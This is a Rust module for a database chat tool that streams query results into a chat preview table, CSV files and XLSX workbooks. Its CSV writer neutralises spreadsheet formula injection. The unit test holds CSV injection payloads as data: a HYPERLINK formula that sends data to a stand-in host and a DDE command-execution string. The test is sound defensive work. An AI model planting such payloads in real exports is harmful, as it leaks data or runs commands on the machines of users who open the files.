//! Where query results go as they stream in: a preview for the chat message
//! (an aligned, monospace table within the platform's length limit), a CSV
//! file (RFC 4180, UTF-8, optionally with a BOM so that Excel reads accents
//! right) and an XLSX workbook written in constant memory. [`Tee`] feeds
//! several at once, so the rows are read once.

use std::io::Write;

use super::backend::{Cell, Column, ExecError, RowSink};

/// The first rows, kept for the message.
#[derive(Debug, Default)]
pub struct Preview {
    pub columns: Vec<Column>,
    pub rows: Vec<Vec<Cell>>,
    keep: usize,
}

impl Preview {
    pub fn new(keep: usize) -> Self {
        Self {
            columns: Vec::new(),
            rows: Vec::new(),
            keep,
        }
    }
}

impl RowSink for Preview {
    fn columns(&mut self, columns: &[Column]) -> Result<(), ExecError> {
        self.columns = columns.to_vec();
        Ok(())
    }

    fn row(&mut self, row: &[Cell]) -> Result<(), ExecError> {
        if self.rows.len() < self.keep {
            self.rows.push(row.to_vec());
        }
        Ok(())
    }
}

/// The widest a preview column gets before its values are cut with "…".
const PREVIEW_CELL: usize = 24;

/// The caption above a preview, from the rows shown, the result's row
/// count and whether it was cut: the sentence itself is the caller's (i18n).
pub type Caption<'a> = &'a dyn Fn(u64, u64, bool) -> String;

/// The preview as chat text: a caption, then an aligned table in a code block,
/// with as many of the kept rows as fit in `max_chars`.
pub fn preview_text(
    preview: &Preview,
    total: u64,
    truncated: bool,
    max_chars: usize,
    caption: Caption<'_>,
) -> String {
    preview_with_table(preview, total, truncated, max_chars, caption).0
}

/// [`preview_text`], and the same rows as a table for platforms that
/// render one (with the same caption and the same cut cells).
pub fn preview_with_table(
    preview: &Preview,
    total: u64,
    truncated: bool,
    max_chars: usize,
    caption: Caption<'_>,
) -> (String, pstral_chat::Table) {
    let cut = |s: &str| {
        if s.chars().count() > PREVIEW_CELL {
            let mut t: String = s.chars().take(PREVIEW_CELL - 1).collect();
            t.push('…');
            t
        } else {
            s.to_owned()
        }
    };
    let header: Vec<String> = preview.columns.iter().map(|c| cut(&c.name)).collect();
    let body: Vec<Vec<String>> = preview
        .rows
        .iter()
        .map(|r| {
            r.iter()
                .map(|c| cut(c.as_deref().unwrap_or("NULL")))
                .collect()
        })
        .collect();
    let mut shown = body.len();
    loop {
        let caption = caption(shown as u64, total, truncated);
        let table = aligned(&header, &body[..shown]);
        let text = format!("{caption}\n```text\n{table}```");
        if text.chars().count() <= max_chars || shown == 0 {
            let table = pstral_chat::Table {
                caption,
                columns: header,
                rows: body[..shown].to_vec(),
            };
            return (text, table);
        }
        shown -= 1;
    }
}

fn aligned(header: &[String], rows: &[Vec<String>]) -> String {
    let widths: Vec<usize> = (0..header.len())
        .map(|i| {
            rows.iter()
                .map(|r| r.get(i).map_or(0, |c| c.chars().count()))
                .chain(std::iter::once(header[i].chars().count()))
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |cells: &[String]| {
        let mut out = String::new();
        for (i, width) in widths.iter().enumerate() {
            let cell = cells.get(i).map_or("", String::as_str);
            if i > 0 {
                out.push_str(" | ");
            }
            out.push_str(cell);
            out.extend(std::iter::repeat_n(' ', width - cell.chars().count()));
        }
        out.truncate(out.trim_end().len());
        out.push('\n');
        out
    };
    let mut text = line(header);
    let rule: Vec<String> = widths.iter().map(|w| "-".repeat(*w)).collect();
    text.push_str(&line(&rule).replace(" | ", "-+-"));
    for row in rows {
        text.push_str(&line(row));
    }
    text
}

/// RFC 4180 CSV: a header row, NULL as an empty field.
pub struct CsvSink<W: Write + Send> {
    writer: csv::Writer<W>,
}

impl<W: Write + Send> CsvSink<W> {
    /// # Errors
    /// When the BOM cannot be written.
    pub fn new(mut out: W, bom: bool) -> Result<Self, ExecError> {
        if bom {
            out.write_all("\u{feff}".as_bytes())
                .map_err(|e| ExecError::Sink(e.to_string()))?;
        }
        Ok(Self {
            writer: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        })
    }

    /// Flushes and returns the writer.
    ///
    /// # Errors
    /// When the last bytes cannot be written.
    pub fn finish(self) -> Result<W, ExecError> {
        self.writer
            .into_inner()
            .map_err(|e| ExecError::Sink(e.to_string()))
    }
}

/// A cell as a spreadsheet may open it safely: text starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is a formula to Excel and
/// LibreOffice (`=HYPERLINK(…)` sends data away), so it gets a leading `'`,
/// as OWASP advises; numbers (`-12.5`) stay as they are.
fn neutralised(cell: &str) -> CsvCell<'_> {
    let formula = cell
        .bytes()
        .next()
        .is_some_and(|b| matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    CsvCell(if formula && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    })
}

/// A cell as the CSV writer takes it (bytes), borrowed unless it changed.
struct CsvCell<'a>(std::borrow::Cow<'a, str>);

impl AsRef<[u8]> for CsvCell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

impl<W: Write + Send> RowSink for CsvSink<W> {
    fn columns(&mut self, columns: &[Column]) -> Result<(), ExecError> {
        self.writer
            .write_record(columns.iter().map(|c| neutralised(&c.name)))
            .map_err(|e| ExecError::Sink(e.to_string()))
    }

    fn row(&mut self, row: &[Cell]) -> Result<(), ExecError> {
        self.writer
            .write_record(row.iter().map(|c| neutralised(c.as_deref().unwrap_or(""))))
            .map_err(|e| ExecError::Sink(e.to_string()))
    }
}

/// An XLSX workbook written row by row in constant memory (rows go to a
/// temporary file, not to memory). Numeric columns hold numbers when the
/// value survives as one; everything else is text, as the database gave it.
pub struct XlsxSink {
    workbook: rust_xlsxwriter::Workbook,
    numeric: Vec<bool>,
    next_row: u32,
}

/// Excel's last row.
const XLSX_MAX_ROWS: u32 = 1_048_576;

impl XlsxSink {
    /// # Errors
    /// When the temporary file cannot be created.
    pub fn new() -> Result<Self, ExecError> {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        workbook
            .add_worksheet_with_constant_memory()
            .map_err(|e| ExecError::Sink(e.to_string()))?;
        Ok(Self {
            workbook,
            numeric: Vec::new(),
            next_row: 0,
        })
    }

    /// The workbook's bytes.
    ///
    /// # Errors
    /// When the workbook cannot be assembled.
    pub fn finish(mut self) -> Result<Vec<u8>, ExecError> {
        self.workbook
            .save_to_buffer()
            .map_err(|e| ExecError::Sink(e.to_string()))
    }

    fn sheet(&mut self) -> Result<&mut rust_xlsxwriter::Worksheet, ExecError> {
        self.workbook
            .worksheet_from_index(0)
            .map_err(|e| ExecError::Sink(e.to_string()))
    }
}

impl RowSink for XlsxSink {
    fn columns(&mut self, columns: &[Column]) -> Result<(), ExecError> {
        self.numeric = columns.iter().map(|c| c.kind.is_number()).collect();
        let sheet = self.sheet()?;
        for (i, c) in columns.iter().enumerate() {
            let col = u16::try_from(i)
                .map_err(|_| ExecError::Sink("too many columns for XLSX".into()))?;
            sheet
                .write_string(0, col, &c.name)
                .map_err(|e| ExecError::Sink(e.to_string()))?;
        }
        self.next_row = 1;
        Ok(())
    }

    fn row(&mut self, row: &[Cell]) -> Result<(), ExecError> {
        if self.next_row >= XLSX_MAX_ROWS {
            return Ok(());
        }
        let r = self.next_row;
        let numeric = self.numeric.clone();
        let sheet = self.sheet()?;
        for (i, cell) in row.iter().enumerate() {
            let Some(text) = cell else { continue };
            let col = u16::try_from(i)
                .map_err(|_| ExecError::Sink("too many columns for XLSX".into()))?;
            // A number only if it round-trips: Excel keeps 15 digits.
            let number = numeric
                .get(i)
                .copied()
                .unwrap_or(false)
                .then(|| text.parse::<f64>().ok())
                .flatten()
                .filter(|n| {
                    n.is_finite()
                        && text
                            .trim_start_matches('-')
                            .replace('.', "")
                            .trim_start_matches('0')
                            .len()
                            <= 15
                });
            match number {
                Some(n) => sheet.write_number(r, col, n),
                None => sheet.write_string(r, col, text),
            }
            .map_err(|e| ExecError::Sink(e.to_string()))?;
        }
        self.next_row += 1;
        Ok(())
    }
}

/// Feeds every row to several sinks.
pub struct Tee<'a> {
    pub sinks: Vec<&'a mut dyn RowSink>,
}

impl RowSink for Tee<'_> {
    fn columns(&mut self, columns: &[Column]) -> Result<(), ExecError> {
        for sink in &mut self.sinks {
            sink.columns(columns)?;
        }
        Ok(())
    }

    fn row(&mut self, row: &[Cell]) -> Result<(), ExecError> {
        for sink in &mut self.sinks {
            sink.row(row)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::i18n::{Lang, Results};

    fn caption(lang: Lang) -> impl Fn(u64, u64, bool) -> String {
        move |shown, total, truncated| {
            Results::RowsCaption {
                shown,
                total,
                truncated,
            }
            .render(lang)
        }
    }

    fn col(name: &str, t: &str) -> Column {
        Column::new(name, t, crate::sql::Dialect::Oracle)
    }

    #[test]
    fn a_workbook_writes_numbers_only_in_columns_whose_type_says_numbers() {
        use crate::sql::Dialect::{Oracle, Postgres, Sqlite};
        let numeric = |name: &str, dialect| Column::new("c", name, dialect).kind.is_number();
        for (name, dialect) in [
            ("NUMBER(14,2)", Oracle),
            ("BINARY_DOUBLE", Oracle),
            ("INT8", Postgres),
            ("NUMERIC", Postgres),
            ("INTEGER", Sqlite),
            ("REAL", Sqlite),
        ] {
            assert!(numeric(name, dialect), "{name}");
        }
        // A computed SQLite column has no declared type: `01234` stays text.
        for (name, dialect) in [
            ("VARCHAR2(10)", Oracle),
            ("TEXT", Postgres),
            ("NULL", Sqlite),
        ] {
            assert!(!numeric(name, dialect), "{name}");
        }
    }

    #[test]
    fn a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        let mut csv = CsvSink::new(Vec::new(), false).unwrap();
        csv.columns(&[col("=cmd", "TEXT"), col("n", "NUMERIC")])
            .unwrap();
        for (text, number) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "-12.5"),
            ("+1+1", "+3"),
            ("@SUM(A1)", "1e3"),
            ("-cmd|' /C calc'!A0", "-0"),
            ("\tindent", "7"),
            ("plain", "-"),
        ] {
            csv.row(&[Some(text.to_owned()), Some(number.to_owned())])
                .unwrap();
        }
        let written = String::from_utf8(csv.finish().unwrap()).unwrap();
        let lines: Vec<&str> = written.lines().collect();
        assert_eq!(lines[0], "'=cmd,n");
        assert!(lines[1].starts_with("\"'=HYPERLINK(") && lines[1].ends_with(",-12.5"));
        assert_eq!(lines[2], "'+1+1,+3");
        assert_eq!(lines[3], "'@SUM(A1),1e3");
        assert_eq!(lines[4], "'-cmd|' /C calc'!A0,-0");
        assert_eq!(lines[5], "'\tindent,7");
        assert_eq!(lines[6], "plain,'-");
    }

    #[test]
    fn the_preview_is_aligned_and_fits_the_limit() {
        let mut p = Preview::new(50);
        p.columns(&[col("nom", "TEXT"), col("ca", "NUMERIC")])
            .unwrap();
        for i in 0..50 {
            p.row(&[
                Some(format!("Client numéro {i}")),
                if i % 7 == 0 {
                    None
                } else {
                    Some(format!("{}.50", i * 1000))
                },
            ])
            .unwrap();
        }
        let text = preview_text(&p, 120, false, 800, &caption(Lang::En));
        assert!(text.chars().count() <= 800);
        assert!(text.starts_with("First "), "{text}");
        assert!(text.contains("of 120 rows"));
        assert!(text.contains("NULL"));
        let lines: Vec<&str> = text.lines().skip(2).filter(|l| *l != "```").collect();
        let bar = lines[0].find('|').unwrap();
        for l in &lines[2..] {
            assert_eq!(
                l.chars().position(|c| c == '|'),
                lines[0].chars().position(|c| c == '|'),
                "{text}"
            );
        }
        assert!(bar > 0);
        let all = preview_text(&p, 50, false, 100_000, &caption(Lang::Fr));
        assert!(all.starts_with("50 lignes :"), "{all}");
    }

    #[test]
    fn csv_is_rfc_4180_with_an_optional_bom() {
        let mut sink = CsvSink::new(Vec::new(), true).unwrap();
        sink.columns(&[col("nom", "TEXT"), col("note", "TEXT")])
            .unwrap();
        sink.row(&[Some("Dupont, \"Jean\"".into()), None]).unwrap();
        sink.row(&[Some("Élodie\nLyon".into()), Some("ok".into())])
            .unwrap();
        let bytes = sink.finish().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{feff}nom,note\r\n\"Dupont, \"\"Jean\"\"\",\r\n\"Élodie\nLyon\",ok\r\n"
        );
    }

    #[test]
    fn xlsx_is_a_workbook() {
        let mut sink = XlsxSink::new().unwrap();
        sink.columns(&[col("nom", "TEXT"), col("ca", "NUMBER")])
            .unwrap();
        sink.row(&[Some("Dupont".into()), Some("1234.5".into())])
            .unwrap();
        sink.row(&[Some("Martin".into()), Some("12345678901234567890".into())])
            .unwrap();
        let bytes = sink.finish().unwrap();
        assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip");
    }
}
